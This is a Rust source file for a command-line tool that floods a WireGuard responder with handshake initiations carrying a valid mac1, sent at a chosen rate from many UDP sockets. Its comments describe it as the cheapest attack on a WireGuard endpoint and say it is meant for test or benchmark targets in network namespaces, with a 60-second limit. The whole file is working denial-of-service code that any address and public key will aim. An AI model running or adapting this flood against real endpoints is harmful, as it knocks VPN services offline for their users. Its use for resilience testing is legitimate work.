//! `handshake-flood`: a bounded flood of WireGuard handshake initiations that carry a valid
//! mac1 (so they pass the cheap check and reach the responder's handshake logic) but nothing
//! else genuine: random sender index, ephemeral key and encrypted fields, and mac2 zero. Only
//! the responder's public key is needed to build them, which is what makes this the cheapest
//! attack on a WireGuard endpoint.
//!
//! Sends with sendmmsg(2) from several UDP sockets (source ports), paced to the target rate, and
//! prints how many initiations it sent and the rate it achieved. Meant for targets inside the
//! network namespaces of a test or benchmark.

#![forbid(unsafe_code)]

use std::net::{SocketAddr, UdpSocket};
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use anyhow::{Context, bail};
use base64::Engine as _;
use blake2::digest::consts::U16;
use blake2::digest::{FixedOutput, KeyInit, Update};
use blake2::{Blake2s256, Blake2sMac, Digest};
use clap::Parser;

/// Longest flood allowed: every load loop of the project stops by itself.
const MAX_DURATION_SECS: f64 = 60.0;
const INITIATION_LEN: usize = 148;
/// mac1 covers everything before it.
const MAC1_OFFSET: usize = 116;
/// Distinct initiations built up front and sent in turn: building one costs a BLAKE2s over
/// 116 bytes, sending it must cost no more than the syscall's share.
const POOL: usize = 4096;
/// Datagrams per sendmmsg(2).
const BATCH: usize = 64;

/// Floods a WireGuard responder with handshake initiations carrying a valid mac1.
#[derive(Debug, Parser)]
#[command(about, long_about)]
struct Args {
    /// The responder's UDP address, e.g. 10.77.100.1:51820.
    target: SocketAddr,
    /// The responder's public key (base64, as `wg pubkey` prints it).
    public_key: String,
    /// Initiations per second.
    #[arg(long, default_value_t = 70_000)]
    rate: u64,
    /// How long to flood, in seconds (at most 60).
    #[arg(long)]
    duration: f64,
    /// Source ports to spread the flood over (one UDP socket each).
    #[arg(long, default_value_t = 64)]
    ports: usize,
}

/// `HASH("mac1----" || responder_static_public)`, the key of mac1.
fn mac1_key(public_key: &[u8; 32]) -> [u8; 32] {
    let mut hash = Blake2s256::new();
    Digest::update(&mut hash, b"mac1----");
    Digest::update(&mut hash, public_key);
    hash.finalize().into()
}

/// A type-1 message with random contents and a correct mac1; mac2 stays zero.
fn initiation(mac1_key: &[u8; 32]) -> [u8; INITIATION_LEN] {
    let mut message: [u8; INITIATION_LEN] = rand::random();
    message[..4].copy_from_slice(&1u32.to_le_bytes());
    let mut mac: Blake2sMac<U16> =
        Blake2sMac::new_from_slice(mac1_key).expect("a 32-byte key fits BLAKE2s");
    mac.update(&message[..MAC1_OFFSET]);
    let mac1: [u8; 16] = mac.finalize_fixed().into();
    message[MAC1_OFFSET..MAC1_OFFSET + 16].copy_from_slice(&mac1);
    message[MAC1_OFFSET + 16..].fill(0);
    message
}

/// Sends `packets` on the connected `socket` with one sendmmsg(2); returns how many went.
fn send_batch(socket: &UdpSocket, packets: &[[u8; INITIATION_LEN]]) -> std::io::Result<usize> {
    use nix::sys::socket::{MsgFlags, MultiHeaders, SockaddrStorage, sendmmsg};
    let slices: Vec<[std::io::IoSlice<'_>; 1]> =
        packets.iter().map(|p| [std::io::IoSlice::new(p)]).collect();
    let mut headers = MultiHeaders::<SockaddrStorage>::preallocate(slices.len(), None);
    // Connected: no destination per message.
    let destinations: Vec<Option<SockaddrStorage>> = vec![None; slices.len()];
    let sent = sendmmsg(
        socket.as_raw_fd(),
        &mut headers,
        &slices,
        &destinations,
        [],
        MsgFlags::empty(),
    )?;
    Ok(sent.count())
}

fn main() -> anyhow::Result<()> {
    let args = Args::parse();
    if !(args.duration > 0.0 && args.duration <= MAX_DURATION_SECS) {
        bail!("--duration must be more than 0 and at most {MAX_DURATION_SECS} seconds");
    }
    if args.rate == 0 || args.ports == 0 {
        bail!("--rate and --ports must be at least 1");
    }
    let public_key: [u8; 32] = base64::engine::general_purpose::STANDARD
        .decode(args.public_key.trim())
        .ok()
        .and_then(|bytes| bytes.try_into().ok())
        .context("the public key must be 32 bytes in base64")?;
    let key = mac1_key(&public_key);
    let pool: Vec<[u8; INITIATION_LEN]> = (0..POOL).map(|_| initiation(&key)).collect();
    let unspecified: SocketAddr = if args.target.is_ipv4() {
        "0.0.0.0:0".parse()?
    } else {
        "[::]:0".parse()?
    };
    let sockets = (0..args.ports)
        .map(|_| {
            let socket = UdpSocket::bind(unspecified)?;
            socket.connect(args.target)?;
            Ok(socket)
        })
        .collect::<std::io::Result<Vec<_>>>()
        .context("cannot open the flood's sockets")?;

    let duration = Duration::from_secs_f64(args.duration);
    let started = Instant::now();
    let (mut sent, mut errors, mut next, mut turn) = (0u64, 0u64, 0usize, 0usize);
    loop {
        let elapsed = started.elapsed();
        if elapsed >= duration {
            break;
        }
        let due = (args.rate as f64 * elapsed.as_secs_f64()) as u64;
        if sent >= due {
            // Caught up: the next batch is due in BATCH / rate seconds.
            std::thread::sleep(Duration::from_micros(200));
            continue;
        }
        let count = ((due - sent) as usize).min(BATCH).min(POOL - next);
        match send_batch(&sockets[turn], &pool[next..next + count]) {
            // A full socket buffer or an ICMP error from an earlier datagram: count it, go on.
            Ok(0) | Err(_) => errors += 1,
            Ok(n) => sent += n as u64,
        }
        next = (next + count) % POOL;
        turn = (turn + 1) % sockets.len();
    }
    let elapsed = started.elapsed().as_secs_f64();
    println!(
        "sent {sent} initiations in {elapsed:.2} s: {:.0}/s (target {}/s) from {} ports, {errors} failed sends",
        sent as f64 / elapsed,
        args.rate,
        sockets.len()
    );
    Ok(())
}
